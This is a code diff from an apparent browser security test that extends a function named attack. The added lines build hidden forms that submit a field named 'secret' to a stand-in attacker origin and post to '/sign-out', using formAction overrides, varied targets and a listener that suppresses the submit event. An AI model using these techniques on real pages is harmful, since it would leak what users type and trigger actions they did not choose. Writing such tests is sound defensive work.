@@ -144,6 +144,22 @@ function attack(evil: string): void {
     send("/sign-out", "post", "_blank");
     send(`${evil}/form`, "get", "_self");
     send(`${evil}/form`, "post", "_blank");
+    send(`${evil}/form`, "dialog", "_top");
+    for (const target of ["_top", "_parent", "named"]) send(`${evil}/form-${target}`, "post", target);
+    const request = (action: string, method: string) =>
+      quietly(() => {
+        const form = Object.assign(document.createElement("form"), { action: "/nowhere", method: "get" });
+        const field = Object.assign(document.createElement("input"), { name: "secret", value: "typed" });
+        const button = Object.assign(document.createElement("button"), { formAction: action, formMethod: method });
+        form.append(field, button);
+        document.body.append(form);
+        // What a preview of its own does to the event, or to what hears it.
+        form.addEventListener("submit", (event) => event.stopImmediatePropagation());
+        form.requestSubmit(button);
+        button.click();
+      });
+    for (const method of ["get", "post"]) request(`${evil}/requested`, method);
+    request("/sign-out", "post");
     const follow = (href: string, target: string) =>
       quietly(() => {
         const link = Object.assign(document.createElement("a"), { href, target });
